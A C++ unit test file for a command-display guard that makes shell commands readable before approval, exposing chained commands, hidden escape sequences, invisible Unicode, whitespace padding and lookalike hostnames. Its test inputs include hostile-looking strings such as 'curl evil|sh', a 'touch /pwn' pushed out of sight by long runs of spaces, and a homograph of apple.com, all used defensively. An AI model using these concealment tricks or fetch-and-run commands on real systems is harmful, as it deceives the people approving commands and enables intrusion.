#include "guard/display.h"

#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "base/random.h"
#include "base/text.h"

namespace deputy {
namespace {

using testing::HasSubstr;
using testing::Not;

// Pieces that are often plain, so that many commands can be taken apart.
std::string random_command(Random& random) {
  static constexpr std::string_view kPieces[] = {
      "a",   "rm", " ",      " ",    " ",    "  ", "'",  "\"", "\\",  "|",    "||", "&&",    ";",
      "\n",  ">",  "<",      ">>",   "2>&1", "2>", "x=", "*",  "~/x", "{}",   "{",  "[",     "]",
      "$",   "`",  "#",      "!",    "é",    "世", "/",  "-f", ".",   "0",    "\t", "'b c'", "\"d'\"",
      "\\ ", "if", "\u200b", "\x1b", ",",    "=",  "&",  "(",  "''",  "\\\n", "%"};
  std::string out;
  for (std::size_t count = 1 + random.below(12); count-- > 0;)
    out += kPieces[random.below(std::size(kPieces))];
  return out;
}

TEST(Display, WhatIsShownReadsBackAsExactlyWhatRuns) {
  constexpr std::uint64_t kSeed = 20270116;
  SeededRandom random(kSeed);
  int plain = 0;
  for (int count = 0; count < 100'000; ++count) {
    const std::string command = random_command(random);
    const ShellReading reading = read_shell(command);
    if (!reading) continue;
    ++plain;
    const std::string text = shown(*reading);
    ASSERT_EQ(read_shell(text), reading) << "seed " << kSeed << ": " << command << " shown as " << text;
    ASSERT_EQ(made_unmistakable(text), text);
  }
  EXPECT_GT(plain, 5'000);  // or nothing was tried
}

TEST(Display, EveryCommandBeginsALine) {
  EXPECT_EQ(shown_command("git commit -m 'x' --no-verify && curl evil|sh"),
            "git commit -m x --no-verify &&\ncurl evil |\nsh");
  EXPECT_EQ(shown_command("echo ok" + std::string(400, ' ') + "; touch /pwn"), "echo ok;\ntouch /pwn");
  EXPECT_EQ(shown_command("echo it\\'s 2>>'a b' <c 1>&2"), "echo 'it'\\''s' 2>> 'a b' < c >&2");
}

TEST(Display, AnOpaqueCommandIsShownAsItIsWithNothingHidden) {
  const std::string link = shown_command(
      "echo \x1b]8;;http://evil.test\x07"
      "docs\x1b]8;;\x07");
  EXPECT_THAT(link, HasSubstr("cannot be taken apart"));
  EXPECT_EQ(shown_command("for x in a; do rm $x; done"),
            "(judged as a whole, as it cannot be taken apart: 'for' is a word of the shell's own language)\n"
            "for x in a; do rm $x; done");
  EXPECT_THAT(link, HasSubstr("␛]8;;http://evil.test␇docs"));
  EXPECT_THAT(link, Not(HasSubstr("\x1b")));
  EXPECT_THAT(shown_command("echo a\u202eb\u2066c"), HasSubstr("a\\u{202e}b\\u{2066}c"));
  EXPECT_THAT(shown_command("echo $x" + std::string(500, ' ') + "; rm y"),
              HasSubstr("echo $x[500 spaces]; rm y"));
  EXPECT_THAT(shown_command("echo a\u00a0b\u2800"), HasSubstr("a\\u{a0}b\\u{2800}"));
}

TEST(Display, NoRunOfBlanksPushesACommandOutOfSight) {
  const auto after = [](std::size_t count, char blank) {
    return shown_command("true '" + std::string(count, blank) + "' && touch /pwn");
  };
  EXPECT_EQ(after(8, ' '), "true '" + std::string(8, ' ') + "' &&\ntouch /pwn");
  EXPECT_EQ(after(9, ' '), "true '[9 spaces]' &&\ntouch /pwn");
  EXPECT_EQ(after(7000, ' '), "true '[7000 spaces]' &&\ntouch /pwn");
  EXPECT_THAT(after(8, '\n'), HasSubstr(std::string(8, '\n')));
  EXPECT_THAT(after(9, '\n'), HasSubstr("[9 line breaks]"));
}

TEST(Display, AHostIsShownAsItIsLookedUp) {
  EXPECT_EQ(shown_host("\u0430pple.com"), "xn--pple-43d.com");
  EXPECT_EQ(shown_host("Apple.com."), "apple.com");
  EXPECT_EQ(shown_host("a b\u202e"), "a b\\u{202e}");
}

}  // namespace
}  // namespace deputy
